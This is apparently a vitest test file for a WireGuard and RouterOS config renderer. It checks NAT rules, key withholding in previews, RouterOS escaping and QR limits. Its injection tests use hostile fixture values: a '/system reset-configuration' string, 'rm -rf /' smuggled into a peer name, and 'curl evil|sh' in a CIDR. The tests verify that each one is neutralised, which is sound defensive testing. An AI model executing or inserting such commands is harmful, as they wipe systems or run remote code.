import { describe, expect, it } from 'vitest';
import { DUAL_STACK, overlay, peer, service, subnet } from '../__fixtures__/overlay.js';
import { compileOverlay } from '../compile.js';
import { isWireGuardKey } from '../keys.js';
import { QR_MAX_BYTES, qrPayload, renderQrPng, renderQrSvg } from './qr.js';
import { rosValue } from './routeros-quote.js';
import { renderRouterOsScript } from './routeros.js';
import { withoutSecrets } from '../compiled.js';
import { PRIVATE_KEY_PLACEHOLDER, PRIVATE_KEY_WITHHELD, renderWgQuick } from './wgquick.js';

const HOSTILE = 'a"; /system reset-configuration; "';

const spec = overlay([
  peer('hub', '10.0.0.1', { role: 'HUB', endpointHost: '2001:db8::1' }),
  peer('site', '10.0.0.2', {
    endpointHost: null,
    subnets: [subnet('lan', '192.168.1.0/24', { natCidr: '172.16.0.0/24' })],
    services: [service('web', '10.0.5.10', { localIp: '192.168.1.20', localPort: 8443, servicePort: 443 })],
  }),
  peer('byo', '10.0.0.3', { role: 'CLIENT', privateKey: null, endpointHost: null }),
], { topology: 'HUB_SPOKE' });
spec.presharedKeys.push({ peerAId: 'site', peerBId: 'hub', key: Buffer.alloc(32, 9).toString('base64') });
const compiled = compileOverlay(spec);

describe('renderWgQuick', () => {
  it('renders a complete config for a NATed site behind CGNAT', () => {
    const text = renderWgQuick(compiled, 'site');
    expect(text).toContain('[Interface]\nAddress = 10.0.0.2/24, 10.0.5.10/32\nMTU = 1420\nPrivateKey = ');
    expect(text).toContain('PostUp = sysctl -w net.ipv4.ip_forward=1');
    expect(text).toContain('PostUp = iptables -t nat -A PREROUTING -i %i -d 172.16.0.0/24 -j NETMAP --to 192.168.1.0/24');
    expect(text).toContain('PostUp = iptables -t nat -A POSTROUTING -s 192.168.1.0/24 -o %i -j NETMAP --to 172.16.0.0/24');
    expect(text).toContain('PostUp = iptables -t nat -A PREROUTING -i %i -d 10.0.5.10/32 -p tcp --dport 443 -j DNAT --to-destination 192.168.1.20:8443');
    expect(text).toContain('PostDown = iptables -t nat -D POSTROUTING -s 192.168.1.0/24 -o %i -j NETMAP --to 172.16.0.0/24');
    expect(text).toContain(`[Peer]\nPublicKey = ${spec.peers[0]?.publicKey}\nPresharedKey = ${Buffer.alloc(32, 9).toString('base64')}\nEndpoint = [2001:db8::1]:51820\nAllowedIPs = 10.0.0.0/24, 10.0.5.0/24\nPersistentKeepalive = 25`);
    expect(text).not.toContain('ListenPort');
  });

  it('renders the hub without Endpoint lines for CGNAT peers', () => {
    const text = renderWgQuick(compiled, 'hub');
    expect(text).toContain('ListenPort = 51820');
    expect(text).not.toContain('Endpoint');
    expect(text).toContain('AllowedIPs = 10.0.0.2/32, 10.0.5.10/32, 172.16.0.0/24');
  });

  it('writes an obviously invalid placeholder for bring-your-own keys', () => {
    const text = renderWgQuick(compiled, 'byo');
    expect(text).toContain(`PrivateKey = ${PRIVATE_KEY_PLACEHOLDER}`);
    expect(text).toMatch(/# Bring-your-own key/);
    expect(isWireGuardKey(PRIVATE_KEY_PLACEHOLDER)).toBe(false);
  });

  it('says a preview left out a key Meshplane holds, and keeps the bring-your-own text for peers without one', () => {
    const preview = withoutSecrets(compiled);
    const held = renderWgQuick(preview, 'site');
    expect(held).toContain(`# PrivateKey held by Meshplane: left out of this preview (download the configuration to get it).\nPrivateKey = ${PRIVATE_KEY_WITHHELD}\n`);
    expect(held).not.toContain('Bring-your-own');
    expect(isWireGuardKey(PRIVATE_KEY_WITHHELD)).toBe(false);
    // Apart from the key lines and the preshared keys, the preview is the real config.
    const real = renderWgQuick(compiled, 'site');
    const keyless = (text: string) => text.split('\n').filter((line) => !/^(PrivateKey|PresharedKey) = |^# (PrivateKey held|Bring-your-own|Replace the placeholder)/.test(line));
    expect(keyless(held)).toEqual(keyless(real));
    const byo = renderWgQuick(preview, 'byo');
    expect(byo).toBe(renderWgQuick(compiled, 'byo'));
    expect(byo).toContain(`# Bring-your-own key: Meshplane never saw this peer's private key.`);
    expect(byo).toContain(`PrivateKey = ${PRIVATE_KEY_PLACEHOLDER}`);
    expect(byo).not.toContain('held by Meshplane');
  });

  it('keeps a hostile name inside one comment line', () => {
    const hostile = overlay([peer('a', '10.0.0.1', { name: `${HOSTILE}\nPostUp = rm -rf /` }), peer('b', '10.0.0.2')], { name: HOSTILE });
    const text = renderWgQuick(compileOverlay(hostile), 'b');
    const clean = renderWgQuick(compileOverlay(overlay([peer('a', '10.0.0.1', { name: 'x' }), peer('b', '10.0.0.2')], { name: 'x' })), 'b');
    // Same number of lines and the same directives as with a harmless name.
    expect(text.split('\n').length).toBe(clean.split('\n').length);
    const directives = (conf: string): string[] => conf.split('\n').filter((line) => !line.startsWith('#'));
    expect(directives(text).map((line) => line.replace(/=.*/, ''))).toEqual(directives(clean).map((line) => line.replace(/=.*/, '')));
    expect(text.match(/["$;`]/)?.[0] ?? null).toBeNull();
    expect(text).not.toMatch(/^PostUp = rm/m);
  });

  it('refuses a hand-built compiled peer carrying a shell payload', () => {
    const tampered = compileOverlay(spec);
    tampered.peers[1]!.nat[0]!.real = '192.168.1.0/24; curl evil|sh';
    expect(() => renderWgQuick(tampered, 'site')).toThrow(/refusing to render CIDR/);
  });
});

describe('renderers on a compiled overlay changed after a first rendering', () => {
  // Renderers may reuse fragments per compiled overlay; a value edited in place afterwards
  // must still be checked, never served from what was rendered before.
  const hostileCidr = '10.0.5.0/24" ; /system reset-configuration';
  const edits: Array<[string, (c: ReturnType<typeof compileOverlay>) => void]> = [
    ['remote AllowedIPs', (c) => { c.peers[1]!.peers[0]!.allowedIps = [hostileCidr]; }],
    ['remote AllowedIPs element', (c) => { const hub = c.peers[0]!; hub.peers[0]!.allowedIps = [...hub.peers[0]!.allowedIps]; hub.peers[0]!.allowedIps[0] = hostileCidr; }],
    ['remote endpoint', (c) => { c.peers[2]!.peers[0]!.endpoint = 'x" ; y:1'; }],
    ['remote key', (c) => { c.peers[1]!.peers[0]!.publicKey = 'x" ; y'; }],
    ['remote preshared key', (c) => { c.peers[1]!.peers[0]!.presharedKey = 'x" ; y'; }],
    ['remote keepalive', (c) => { c.peers[1]!.peers[0]!.persistentKeepalive = -1; }],
    ['route', (c) => { c.peers[1]!.routes[0]!.destination = hostileCidr; }],
    ['interface name', (c) => { c.peers[1]!.interface.name = 'wg" ; x'; }],
    ['firewall port', (c) => { c.peers[0]!.firewall[0]!.dstPort = 0; }],
  ];
  it.each(edits)('%s', (_what, edit) => {
    const fresh = compileOverlay(spec);
    for (const peer of fresh.peers) {
      renderRouterOsScript(fresh, peer.peerId);
      renderWgQuick(fresh, peer.peerId);
    }
    edit(fresh);
    const outputs = (): string[] => fresh.peers.flatMap((peer) => [renderRouterOsScript(fresh, peer.peerId), renderWgQuick(fresh, peer.peerId)]);
    expect(outputs).toThrow(/refusing to render|not valid|RouterOS integer/);
  });
});

describe('rosValue', () => {
  it('escapes every RouterOS string metacharacter', () => {
    expect(rosValue(HOSTILE)).toBe('"a\\"; /system reset-configuration; \\""');
    expect(rosValue('$x [y] ?z \\ "q"\n\r\t\x01é')).toBe('"\\$x [y] \\?z \\\\ \\"q\\"\\n\\r\\t\\01\\?"');
    expect(rosValue(51820)).toBe('51820');
    expect(() => rosValue(-1)).toThrow();
    expect(() => rosValue(1.5)).toThrow();
  });

  it('quotes every UTF-16 code unit as RouterOS reads it', () => {
    const named: Record<string, string> = { '\\': '\\\\', '"': '\\"', $: '\\$', '?': '\\?', '\n': '\\n', '\r': '\\r', '\t': '\\t' };
    const expected = (character: string): string => {
      const code = character.charCodeAt(0);
      if (named[character] !== undefined) return named[character] as string;
      if (code > 0x7e) return '\\?';
      return code < 0x20 ? `\\${code.toString(16).toUpperCase().padStart(2, '0')}` : character;
    };
    for (let code = 0; code <= 0xffff; code++) {
      const character = String.fromCharCode(code);
      const quoted = rosValue(`a${character}b`);
      if (quoted !== `"a${expected(character)}b"`) expect(quoted, `code ${code}`).toBe(`"a${expected(character)}b"`);
    }
  });
});

describe('renderRouterOsScript', () => {
  const script = renderRouterOsScript(compiled, 'site', { apiUserName: 'meshplane-api', apiAllowedAddresses: ['192.168.88.0/24', '10.9.9.9'] });

  it('upserts every managed item by its comment tag', () => {
    expect(script).toContain(':if ([:len [/interface/wireguard/find where comment="meshplane:wan1:interface"]] = 0) do={ /interface/wireguard/add name="wg-mesh" mtu=1420 private-key=');
    expect(script).toMatch(/\/interface\/wireguard\/peers\/add interface="wg-mesh" public-key="[^"]+" allowed-address="10.0.0.0\/24,10.0.5.0\/24" endpoint-address="2001:db8::1" endpoint-port=51820 persistent-keepalive="25s" preshared-key="[^"]+" comment="meshplane:wan1:peer:hub"/);
    expect(script).toContain('/ip/address/add address="10.0.5.10/32" interface="wg-mesh" comment="meshplane:wan1:address:10.0.5.10/32"');
    expect(script).toContain('/ip/route/add dst-address="10.0.5.0/24" gateway="wg-mesh" distance=10 comment="meshplane:wan1:route:10.0.5.0/24"');
    expect(script).toContain(':foreach r in=[/ip/route/find where dst-address="10.0.5.0/24" and !dynamic and distance<=10 and !(comment~"^meshplane:")] do={ /ip/route/set $r distance=11 }');
    expect(script).toContain('chain="dstnat" action="netmap" in-interface="wg-mesh" dst-address="172.16.0.0/24" to-addresses="192.168.1.0/24"');
    expect(script).toContain('chain="srcnat" action="netmap" out-interface="wg-mesh" src-address="192.168.1.0/24" to-addresses="172.16.0.0/24"');
    expect(script).toContain('chain="dstnat" action="dst-nat" in-interface="wg-mesh" protocol="tcp" dst-address="10.0.5.10" dst-port=443 to-addresses="192.168.1.20" to-ports=8443');
    expect(script).toContain('/ip/firewall/filter/add chain="forward" action="accept" in-interface="wg-mesh" comment="meshplane:wan1:filter:forward-in"');
    expect(script).toContain(':if ([:len [/user/find where name="meshplane-api"]] > 0) do={ /user/set [/user/find where name="meshplane-api"] address="192.168.88.0/24,10.9.9.9" }');
  });

  it('removes stale tagged items and leaves everything else alone', () => {
    expect(script).toContain(':foreach i in=[/interface/wireguard/peers/find where comment~"^meshplane:wan1:peer:"] do={ :if ([:typeof [:find {"meshplane:wan1:peer:hub"} [/interface/wireguard/peers/get $i comment]]] = "nil") do={ /interface/wireguard/peers/remove $i } }');
    for (const line of script.split('\n')) {
      if (line === '' || line.startsWith('#') || /^\/[a-z/]+$/.test(line)) continue;
      expect(line, line).toMatch(/^(:if|:foreach) |^\/ip\/route\/remove \[\/ip\/route\/find where comment~"\^meshplane:wan1:route:"\]$/);
    }
  });

  it('adds the input rule for the listen port on peers that listen', () => {
    const hubScript = renderRouterOsScript(compiled, 'hub', { commentPrefix: 'mp' });
    expect(hubScript).toContain('chain="input" action="accept" protocol="udp" dst-port=51820 comment="mp:wan1:filter:input-udp-51820"');
    expect(hubScript).toContain('place-before=([/ip/firewall/filter/find where !dynamic]->0)');
    expect(() => renderRouterOsScript(compiled, 'hub', { commentPrefix: 'a"b' })).toThrow(/commentPrefix/);
  });

  it('keeps the private key on the router for bring-your-own-key peers', () => {
    const byo = renderRouterOsScript(compiled, 'byo');
    expect(byo).not.toContain('private-key=');
    expect(byo).toContain('# Bring-your-own key');
    expect(renderRouterOsScript(withoutSecrets(compiled), 'byo')).toBe(byo);
  });

  it('says a preview left out a private key Meshplane holds, not that the router keeps its own', () => {
    const real = renderRouterOsScript(compiled, 'site');
    expect(real).toMatch(/ private-key="?[A-Za-z0-9+/]{43}=/);
    const held = renderRouterOsScript(withoutSecrets(compiled), 'site');
    expect(held).not.toContain('private-key=');
    expect(held).not.toContain('Bring-your-own');
    expect(held).toContain(`# Private key held by Meshplane: left out of this preview (download the script to get it); public key ${spec.peers[1]?.publicKey}.`);
  });

  it('renders a hostile name inert', () => {
    const hostile = overlay([peer('a', '10.0.0.1', { name: HOSTILE }), peer('b', '10.0.0.2', { name: HOSTILE })], { name: HOSTILE });
    const text = renderRouterOsScript(compileOverlay(hostile), 'b', { apiUserName: HOSTILE, apiAllowedAddresses: ['10.1.1.1'] });
    for (const line of text.split('\n')) {
      if (line.includes('reset-configuration')) {
        // Either sanitised inside a comment, or inside a quoted, escaped string.
        expect(line.startsWith('#') ? line : line.replace(/"(?:[^"\\]|\\.)*"/g, '""'), line).not.toMatch(/reset-configuration.*"|^\/system/);
      }
    }
    expect(text).toContain('name="a\\"; /system reset-configuration; \\""');
    expect(text.split('\n').filter((line) => line.startsWith('#')).join('\n')).not.toMatch(/["$;]/);
  });
});

describe('QR', () => {
  it('renders PNG and SVG', async () => {
    const png = await renderQrPng(renderWgQuick(compiled, 'byo'));
    expect(png?.subarray(1, 4).toString()).toBe('PNG');
    expect(await renderQrSvg('hello')).toMatch(/^<svg/);
  });

  it('gives no QR code for a config longer than the largest QR code holds, instead of failing', async () => {
    expect(await renderQrSvg('x'.repeat(QR_MAX_BYTES))).toMatch(/^<svg/);
    expect(await renderQrSvg('x'.repeat(QR_MAX_BYTES + 1))).toBeNull();
    expect(await renderQrPng('x'.repeat(QR_MAX_BYTES + 1))).toBeNull();
  });

  it('fits a dual-stack client config wherever its IPv4 version fitted, leaving out only comment lines', async () => {
    // Remotes named like the server names peers (25-character cuid ids), as many as the IPv4
    // client config of a mesh can carry in one code.
    const meshWith = (remotes: number, dual: boolean) => overlay([
      peer('client', '10.0.0.1', { role: 'CLIENT', endpointHost: null, ...(dual ? { tunnelIp6: 'fd10:aaaa:bbbb::1' } : {}) }),
      ...Array.from({ length: remotes }, (_, i) => peer(`cm${String(i).padStart(23, '0')}`, `10.0.0.${i + 2}`, {
        name: `Site ${i + 2}`, ...(dual ? { tunnelIp6: `fd10:aaaa:bbbb::${(i + 2).toString(16)}` } : {}),
      })),
    ], dual ? DUAL_STACK : {});
    const conf = (remotes: number, dual: boolean) => renderWgQuick(compileOverlay(meshWith(remotes, dual)), 'client');
    let remotes = 1;
    while (Buffer.byteLength(conf(remotes + 1, false)) <= QR_MAX_BYTES) remotes++;
    const ipv4 = conf(remotes, false);
    const dual = conf(remotes, true);
    // Comment lines are always left out (the download keeps them), whether or not the config fits.
    expect(qrPayload(ipv4)).toBe(ipv4.split('\n').filter((line) => !line.startsWith('#')).join('\n'));
    expect(Buffer.byteLength(dual)).toBeGreaterThan(QR_MAX_BYTES);
    const payload = qrPayload(dual);
    expect(payload).not.toBeNull();
    expect(payload!.split('\n')).toEqual(dual.split('\n').filter((line) => !line.startsWith('#')));
    expect(payload).toContain('Address = 10.0.0.1/24, fd10:aaaa:bbbb::1/64');
    expect((await renderQrPng(dual))?.subarray(1, 4).toString()).toBe('PNG');
    expect(await renderQrSvg(dual)).toMatch(/^<svg/);
    // Far more remotes and neither form fits: no code rather than a failed download.
    expect(qrPayload(conf(remotes + 12, true))).toBeNull();
  });
});
